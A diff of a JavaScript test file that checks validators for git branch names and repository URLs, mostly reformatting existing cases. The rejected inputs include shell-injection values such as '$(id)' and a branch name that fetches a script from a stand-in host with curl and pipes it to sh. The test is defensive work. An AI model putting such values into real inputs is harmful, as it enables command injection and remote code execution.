@@ -45,7 +45,7 @@ describe('branch names', () => {
     ['a\u007fb', 'DEL'],
     // git accepts these, but they are shell syntax
     ['main;id', '";"'],
-    ['x;curl$IFS-sL$IFS\'evil.example\'|sh', 'an injected command'],
+    ["x;curl$IFS-sL$IFS'evil.example'|sh", 'an injected command'],
     ['$(id)', '"$("'],
     ['a`id`', 'a backtick'],
     ['a|b', '"|"'],
@@ -64,7 +64,14 @@ describe('branch names', () => {
 
   it('is the same rule as the pattern a JSON Schema carries (ajv compiles patterns with "u")', () => {
     const pattern = new RegExp(BRANCH_NAME_PATTERN, 'u');
-    for (const name of ['main', 'a..b', 'main;id', 'feature/x', 'x.lock', '-x']) {
+    for (const name of [
+      'main',
+      'a..b',
+      'main;id',
+      'feature/x',
+      'x.lock',
+      '-x',
+    ]) {
       expect(pattern.test(name)).toBe(isBranchName(name));
     }
   });
@@ -119,10 +126,16 @@ describe('repository URLs', () => {
     expect(pattern.test('https://github.com/o/r')).toBe(true);
     expect(pattern.test('https://x/$(id)')).toBe(false);
     const started = Date.now();
-    for (const long of [`https://${'a'.repeat(65536)}`, `git@${'a.'.repeat(32768)}`, `https://${'a-'.repeat(32768)}!`]) {
+    for (const long of [
+      `https://${'a'.repeat(65536)}`,
+      `git@${'a.'.repeat(32768)}`,
+      `https://${'a-'.repeat(32768)}!`,
+    ]) {
       expect(pattern.test(long)).toBe(false);
     }
-    expect(new RegExp(BRANCH_NAME_PATTERN, 'u').test(`${'a/'.repeat(32768)}.`)).toBe(false);
+    expect(
+      new RegExp(BRANCH_NAME_PATTERN, 'u').test(`${'a/'.repeat(32768)}.`),
+    ).toBe(false);
     expect(Date.now() - started).toBeLessThan(500);
   });
 });
